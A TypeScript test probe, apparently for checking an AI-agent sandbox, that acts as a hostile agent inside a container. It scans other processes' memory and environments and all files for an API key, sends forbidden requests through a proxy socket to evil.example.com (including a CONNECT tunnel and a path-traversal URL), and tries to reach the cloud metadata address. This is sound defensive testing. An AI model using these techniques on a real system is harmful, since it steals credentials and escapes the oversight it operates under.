// Runs inside a container, as a hostile agent would: looks everywhere for a key, and asks for what is
// not allowed. Prints what it found as JSON. It gets the key in two halves, so as not to find itself.
import { spawnSync } from "node:child_process";
import { lookup } from "node:dns/promises";
import { closeSync, openSync, readFileSync, readSync, readdirSync } from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";

/** What the probe saw. */
export interface Probed {
  /** Where the key is, or a spelling of it. */
  readonly hits: readonly string[];
  /** How much was searched: processes by their environment, and bytes of memory and files. */
  readonly searched: { environments: number; memoryBytes: number; files: number };
  readonly interfaces: readonly string[];
  readonly reached: readonly string[];
  readonly sockets: readonly string[];
  /** What was asked, and the answer's status. */
  readonly asked: Readonly<Record<string, number>>;
  readonly placeholder: string | null;
  /** Where the placeholder is: it shows that the search finds what is there. */
  readonly decoys: readonly string[];
}

/** Bytes of a page of memory. */
const PAGE = 4_096;

const [, , firstHalf = "", secondHalf = ""] = process.argv;
const key = `${firstHalf}${secondHalf}`;
const spellings = [key, Buffer.from(key).toString("base64").slice(0, 24), encodeURIComponent(key)];
const needles = spellings.map((text) => Buffer.from(text));
const placeholder = process.env["ANTHROPIC_API_KEY"] ?? null;
const decoy = Buffer.from(placeholder ?? "none");
const hits: string[] = [];
const piece = Buffer.alloc(4 << 20);
const decoys = new Set<string>();
const searched = { environments: 0, memoryBytes: 0, files: 0 };
const socketPath = process.env["ANTHROPIC_UNIX_SOCKET"] ?? "";

const own = new Set([String(process.pid), String(process.ppid)]);
for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) lookIntoProcess(pid);
lookIntoFiles();
const sockets = listed("s");
const asked = await askForMore();
const reached = await reach();
const interfaces = readdirSync("/sys/class/net");
const found: Pick<Probed, "hits" | "decoys"> = { hits, decoys: [...decoys] };
const probed: Probed = { ...found, searched, interfaces, reached, sockets, asked, placeholder };
process.stdout.write(JSON.stringify(probed));

function look(where: string, bytes: Buffer): void {
  if (needles.some((needle) => bytes.includes(needle))) hits.push(where);
  if (bytes.includes(decoy)) decoys.add(where.replace(/\d+/, "N"));
}

function lookIntoProcess(pid: string): void {
  for (const name of ["environ", "cmdline", "maps"]) {
    const bytes = unlessForbidden(() => readFileSync(`/proc/${pid}/${name}`));
    if (bytes === null) continue;
    if (name === "environ") searched.environments += 1;
    // The probe's own command line has the halves, and its memory the whole.
    if (!own.has(pid)) look(`/proc/${pid}/${name}`, bytes);
    if (!own.has(pid) && name === "maps") lookIntoMemory(pid, bytes.toString());
  }
}

function lookIntoMemory(pid: string, maps: string): void {
  const memory = unlessForbidden(() => openSync(`/proc/${pid}/mem`, "r"));
  const pages = unlessForbidden(() => openSync(`/proc/${pid}/pagemap`, "r"));
  if (memory === null || pages === null) return;
  for (const line of maps.split("\n")) {
    const [, from = "", to = ""] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
    if (from === "" || from.length > 12) continue;
    for (const [start, end] of used(pages, Number.parseInt(from, 16), Number.parseInt(to, 16))) {
      searched.memoryBytes += lookThrough(`/proc/${pid}/mem`, memory, start, end);
    }
  }
  for (const file of [memory, pages]) closeSync(file);
}

/** What of a mapping is used: far more is only reserved. */
function* used(pages: number, from: number, to: number): Generator<readonly [number, number]> {
  const entries = Buffer.alloc(8 * 65_536);
  let start: number | null = null;
  for (let at = from; at < to; at += PAGE * 65_536) {
    const wanted = Math.min(entries.length, ((to - at) / PAGE) * 8);
    const read = unlessForbidden(() => readSync(pages, entries, 0, wanted, (at / PAGE) * 8)) ?? 0;
    for (let entry = 0; entry < read; entry += 8) {
      const place = at + (entry / 8) * PAGE;
      // The two highest bits: it is in memory, or it was swapped out.
      const isUsed = (entries.readUInt8(entry + 7) & 0xc0) !== 0;
      if (isUsed) start ??= place;
      else if (start !== null) {
        yield [start, place];
        start = null;
      }
    }
  }
  if (start !== null) yield [start, to];
}

function lookIntoFiles(): void {
  for (const file of listed("f")) {
    const open = unlessForbidden(() => openSync(file, "r"));
    if (open === null) continue;
    searched.files += 1;
    lookThrough(file, open, 0, Number.POSITIVE_INFINITY);
    closeSync(open);
  }
}

/** Everything of this kind, except for what the kernel makes up; it may not enter every folder. */
function listed(kind: "f" | "s"): readonly string[] {
  const notReal = ["/proc", "/sys", "/dev"].flatMap((path) => ["-path", path, "-prune", "-o"]);
  const search = ["/", ...notReal, "-type", kind, "-print"];
  const { stdout } = spawnSync("find", search, { encoding: "utf8", maxBuffer: 1 << 28 });
  return stdout.trim().split("\n");
}

/** A piece at a time, with an overlap: the machine is small. Gives how much was read. */
function lookThrough(where: string, file: number, start: number, end: number): number {
  const overlap = key.length * 2;
  let at = start;
  for (;;) {
    const wanted = Math.min(piece.length, end - at);
    const read = unlessForbidden(() => readSync(file, piece, 0, wanted, at)) ?? 0;
    look(where, piece.subarray(0, read));
    if (read < piece.length) return at + read - start;
    at += read - overlap;
  }
}

async function askForMore(): Promise<Record<string, number>> {
  const body = (model: string): string => JSON.stringify({ model, messages: [], max_tokens: 1 });
  const wishes: readonly (readonly [string, string, string?])[] = [
    ["GET", "/v1/models"],
    ["POST", "/v1/messages/batches", "{}"],
    ["POST", "/v1/../v1/messages", body("claude-scripted")],
    ["POST", "http://evil.example.com/v1/messages", body("claude-scripted")],
    ["POST", "/v1/messages", body("claude-dearer")],
    ["GET", "/upstreams/evil/x"],
    ["GET", "/audit"],
  ];
  const answers: Record<string, number> = {};
  for (const [method, path, text] of wishes) {
    const name = `${method} ${path}${text?.includes("dearer") === true ? " (another model)" : ""}`;
    answers[name] = await statusOf(method, path, text);
  }
  answers["CONNECT evil.example.com:443"] = await rawStatus(
    "CONNECT evil.example.com:443 HTTP/1.1\r\nhost: evil.example.com\r\n\r\n",
  );
  answers["a word of the orchestrator"] = await rawStatus('{"id":1,"call":"hello"}\n\r\n\r\n');
  return answers;
}

function statusOf(method: string, path: string, body?: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const headers = { host: "evil.example.com", "x-api-key": "mine" };
    const call = request({ socketPath, method, path, headers }, (answer) => {
      const chunks: Buffer[] = [];
      answer.on("data", (chunk: Buffer) => chunks.push(chunk));
      answer.on("end", () => {
        look(`the answer to ${method} ${path}`, Buffer.concat(chunks));
        look(`the headers of ${method} ${path}`, Buffer.from(JSON.stringify(answer.headers)));
        resolve(answer.statusCode ?? 0);
      });
    });
    call.on("error", reject);
    call.end(body);
  });
}

function rawStatus(text: string): Promise<number> {
  return new Promise((resolve) => {
    const socket = connect(socketPath, () => socket.write(text));
    let said = "";
    socket.on("data", (chunk) => (said += chunk.toString()));
    socket.on("error", () => socket.destroy());
    socket.on("close", () => {
      look("a raw answer", Buffer.from(said));
      resolve(Number(/^HTTP\/1\.1 (\d+)/.exec(said)?.[1] ?? 0));
    });
  });
}

/** Which hosts answer at all: none may. */
async function reach(): Promise<readonly string[]> {
  const open: string[] = [];
  for (const host of ["1.1.1.1", "172.17.0.1", "169.254.169.254", "127.0.0.1"]) {
    for (const port of [80, 443]) {
      const isOpen = await new Promise<boolean>((resolve) => {
        const socket = connect({ host, port, timeout: 1_000 }, () => resolve(true));
        socket.on("error", () => resolve(false));
        socket.on("timeout", () => resolve(false));
        socket.on("close", () => resolve(false));
      });
      if (isOpen) open.push(`${host}:${port}`);
    }
  }
  const named = await lookup("api.anthropic.com").catch(() => null);
  return named === null ? open : [...open, `dns ${named.address}`];
}

/** Null where the system says no: that is what a wall is for. */
function unlessForbidden<T>(read: () => T): T | null {
  try {
    return read();
  } catch {
    return null;
  }
}
